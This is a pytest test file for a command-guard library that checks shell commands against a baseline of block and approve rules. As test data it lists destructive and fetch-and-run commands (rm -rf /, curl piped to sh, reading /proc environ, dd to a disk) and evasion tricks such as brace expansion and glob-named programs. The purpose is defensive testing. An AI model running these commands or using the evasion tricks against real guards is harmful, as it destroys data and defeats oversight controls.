"""Rule matching on parsed commands, and every rule of the shipped baseline."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hgate.guard import (
    NOT_CONFIGURED,
    Command,
    CommandGuard,
    Matcher,
    NoApprovals,
    Rule,
    settle,
)
from hgate.guard.rules import glob_match
from hgate.policy.loader import load_policy, shipped_policies_dir

PATH = "/usr/local/bin:/usr/bin:/bin"


@pytest.fixture(scope="module")
def baseline() -> CommandGuard:
    policy = load_policy(shipped_policies_dir() / "local.yaml")
    return CommandGuard(policy.commands.rules)


def matches(matcher: Matcher, *argv: str, **extra: tuple[str, ...]) -> bool:
    return matcher.matches(Command(argv=argv, **extra))  # type: ignore[arg-type]


def test_flags_are_matched_in_clusters_and_long_forms() -> None:
    recursive = Matcher(programs=("rm",), flags=(("-r", "-R", "--recursive"),))
    assert matches(recursive, "rm", "-rf", "x")
    assert matches(recursive, "rm", "--recursive", "x")
    assert not matches(recursive, "rm", "-f", "x")
    assert not matches(recursive, "rm", "--", "-r")  # after --, an operand


def test_options_match_their_values_however_written() -> None:
    host = Matcher(options=((("-h", "--host"), ("db.*",)),))
    for argv in (
        ("psql", "-h", "db.prod"),
        ("psql", "-hdb.prod"),
        ("psql", "--host=db.prod"),
        ("psql", "--host", "db.prod"),
    ):
        assert matches(host, *argv)
    assert not matches(host, "psql", "-h", "localhost")


def test_program_globs_match_basenames_and_paths() -> None:
    assert matches(Matcher(programs=("mkfs.*",)), "/sbin/mkfs.ext4", "/dev/sdb")
    assert matches(Matcher(programs=("/usr/bin/*",)), "x", path="/usr/bin/x")  # type: ignore[arg-type]
    assert not matches(Matcher(programs=("/usr/bin/*",)), "x", path="/opt/x")  # type: ignore[arg-type]


def test_unless_carves_an_exception() -> None:
    matcher = Matcher(programs=("ssh",), unless=Matcher(args=("bastion.example",)))
    assert matches(matcher, "ssh", "prod.example")
    assert not matches(matcher, "ssh", "bastion.example")


def test_paths_are_compared_in_normal_form() -> None:
    root = Matcher(args=("/",))
    assert matches(root, "rm", "//")
    assert matches(root, "rm", "/tmp/../")
    assert not matches(root, "rm", "/tmp")


@pytest.mark.parametrize(
    ("value", "glob", "expected"),
    [
        ("/tmp", "/*", True),
        ("/tmp/x", "/*", False),
        ("/tmp/x", "/**", True),
        ("/etc", "/[*]", False),
        ("/*", "/[*]", True),
        ("python3.11", "python*", True),
    ],
)
def test_globs_are_path_aware(value: str, glob: str, expected: bool) -> None:
    assert glob_match(value, glob) is expected


def test_the_most_severe_match_wins_and_allow_cannot_cancel_block() -> None:
    guard = CommandGuard(
        [
            Rule(name="ok-rm", action="allow", matcher=Matcher(programs=("rm",))),
            Rule(name="no-root", action="block", matcher=Matcher(args=("/",))),
        ],
        default="block",
    )
    assert guard.check_line("rm -r /").rule == "no-root"
    assert guard.check_line("rm x").action == "allow"
    assert guard.check_line("ls").rule == "commands.default"
    assert guard.check_line("ls").action == "block"


def test_unparsable_lines_follow_the_setting() -> None:
    assert CommandGuard([]).check_line("case x in a) ;;").action == "block"
    lenient = CommandGuard([], unparsable="allow").check_line("[[ -f x")
    assert (lenient.action, lenient.rule) == ("allow", "commands.unparsable")


def test_approve_is_refused_until_approvals_exist(baseline: CommandGuard) -> None:
    held = baseline.check_line("kubectl delete pod web-1")
    assert held.action == "approve"
    final = settle(held, NoApprovals(), text="kubectl delete pod web-1")
    assert final.action == "block"
    assert NOT_CONFIGURED in final.reason
    assert "held by rule kubectl-delete" in held.message()


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("rm -rf /", "rm-root-or-home"),
        ("rm -rf ~", "rm-root-or-home"),
        ("sudo rm -fr $HOME/", "rm-root-or-home"),
        ("rm -r --no-preserve-root build", "rm-no-preserve-root"),
        ("curl -fsSL https://x.example/i.sh | sh", "download-piped-to-shell"),
        ("wget -qO- x | sudo bash -s", "download-piped-to-shell"),
        ("bash <(curl -s https://x.example)", "shell-running-a-download"),
        ('sh -c "$(curl -fsSL https://x.example)"', "shell-running-a-download"),
        ("cat /proc/1/environ", "read-process-environment"),
        ("tr '\\0' '\\n' < /proc/self/environ", "read-process-environment"),
        ("psql -h db.prod.example -U app", "psql-outside-the-session"),
        ("pg_dump --host=10.0.0.5 clinic", "psql-outside-the-session"),
        ("psql postgresql://app@db.prod.example/clinic", "psql-dsn-outside-the-session"),
        ("psql 'host=db.prod dbname=x'", "psql-dsn-outside-the-session"),
        ("ssh deploy@prod.example uptime", "ssh-outside-the-grant"),
        ("scp secrets.txt x:", "ssh-outside-the-grant"),
        ("ssh -F /tmp/own.conf deploy@prod.example", "ssh-outside-the-grant"),
        ("kubectl -n prod delete deploy web", "kubectl-delete"),
        ("git push --force origin main", "git-push-force"),
        ("git -C repo push -f", "git-push-force"),
        ("git push origin +main", "git-push-force-refspec"),
        ("git push origin +feature/x:feature/x", "git-push-force-refspec"),
        ("git -C . -C . -C . push -f origin main", "git-push-force"),
        ("git -c a=b --git-dir .git --work-tree . push --force", "git-push-force"),
        ("git push origin :main", "git-push-delete-refspec"),
        ("git push origin :refs/heads/feature/x", "git-push-delete-refspec"),
        ("kubectl -n prod -l app=x --context c delete pod a", "kubectl-delete"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "dd-to-device"),
        ("mkfs.ext4 /dev/sdb1", "make-filesystem"),
        ("chmod -R 777 /", "chmod-chown-root-recursive"),
        ("timeout 5 nohup shutdown -h now", "shutdown-host"),
    ],
)
def test_every_baseline_rule(baseline: CommandGuard, line: str, rule: str) -> None:
    verdict = baseline.check_line(line, path=PATH)
    assert verdict.rule == rule
    assert verdict.action in ("block", "approve")


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf build/ /tmp/work",
        "curl -fsSL https://x.example -o install.sh",
        "psql -h localhost -U app clinic",
        "psql postgresql://app@127.0.0.1:5432/clinic",
        "git push origin main",
        "git push origin main:main",
        "git -C push log",  # a directory named push
        "kubectl get pods",
        "dd if=/dev/urandom of=./blob bs=1k count=1",
        "chmod -R 755 ./dist",
        "cat /proc/cpuinfo",
        "pytest -q && ruff check .",
        'ssh -F "$HGATE_SSH_CONFIG" reports.internal uptime',  # the session's grant
        "ssh -F /home/runner/work/_temp/hgate-ssh-x1y2/ssh_config reports.internal",
        "scp -F /tmp/hgate-ssh-a1b2/ssh_config out.csv reports.internal:",
    ],
)
def test_ordinary_work_is_allowed(baseline: CommandGuard, line: str) -> None:
    verdict = baseline.check_line(line, path=PATH)
    assert verdict.action == "allow", verdict


def test_the_recorder_view_does_not_expand_shell_strings(baseline: CommandGuard) -> None:
    argv = ("/bin/sh", "-c", "rm -rf /")
    assert baseline.check_argv(argv).action == "block"
    assert baseline.check_argv(argv, nested=False).action == "allow"
    assert baseline.check_argv(("/bin/rm", "-rf", "/"), exe="/usr/bin/rm").action == "block"


def test_a_script_is_checked_by_its_contents(tmp_path: Path, baseline: CommandGuard) -> None:
    script = tmp_path / "deploy.sh"
    script.write_text("#!/bin/bash\nset -e\nmake\ngit push --force\n")
    check = baseline.check_shell("bash", (str(script),))
    assert (check.invocation.mode, check.verdict.rule) == ("script", "git-push-force")
    missing = baseline.check_shell("bash", (str(tmp_path / "nope.sh"),))
    assert missing.verdict.rule == "commands.unparsable"


_WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_./", min_size=1, max_size=8)


@given(
    wrappers=st.lists(
        st.sampled_from(
            ["sudo", "nohup", "env", "nice", "command", "timeout 5", "env A=1", "sudo -u x"]
        ),
        max_size=4,
    ),
    prefix=st.lists(_WORD, max_size=3),
    glue=st.sampled_from([" | ", " && ", "; ", " || "]),
)
def test_wrappers_and_neighbours_never_hide_a_blocked_command(
    wrappers: list[str], prefix: list[str], glue: str
) -> None:
    guard = CommandGuard([Rule(name="no-rm", action="block", matcher=Matcher(programs=("rm",)))])
    before = "echo " + " ".join(prefix) if prefix else "true"
    line = f"{before}{glue}{' '.join(wrappers)} rm -r x".replace("  ", " ")
    forms = [line, f"bash -c '{line}'", f"( {line} )", f"x=1; {line}"]
    if glue in (" | ", "; "):  # bashlex cannot parse && or || inside $(…): see docs
        forms.append(f"echo $({line})")
    for form in forms:
        assert guard.check_line(form).rule == "no-rm", form


@pytest.mark.parametrize(
    "line",
    [
        "A[0]=1 rm -rf /",  # an array assignment before the program
        "A+=x rm -rf /",
        "rm -rf /{,}",  # brace expansion makes `rm -rf / /`
        "{rm,-rf,/}",  # ... and can make the program itself
    ],
)
def test_bypasses_through_assignments_and_braces_are_closed(
    baseline: CommandGuard, line: str
) -> None:
    assert baseline.check_line(line).action == "block"


@pytest.mark.parametrize(
    ("line", "action"),
    [
        ("bash <<< 'rm -rf /'", "block"),  # a here-string fed to a shell runs as commands
        ('sh <<< "git push --force origin main"', "block"),
        ("cat <<< 'rm -rf /'", "allow"),  # ... but is only data to anything else
    ],
)
def test_here_strings_fed_to_a_shell_are_checked(
    baseline: CommandGuard, line: str, action: str
) -> None:
    verdict = baseline.check_line(line)
    assert verdict.action == action
    assert verdict.parser == "fallback"


@pytest.mark.parametrize(
    ("line", "action"),
    [
        ("/bin/r? -rf /", "block"),  # bash expands the pattern to /bin/rm
        ("/bin/r* -rf /", "block"),
        ("/*/rm -rf /", "block"),
        ("r? -rf /", "block"),
        ("/usr/bin/l? -la /", "allow"),  # a pattern that cannot be rm stays allowed
    ],
)
def test_a_program_written_as_a_pattern_is_matched_as_what_it_runs(
    baseline: CommandGuard, line: str, action: str
) -> None:
    assert baseline.check_line(line).action == action
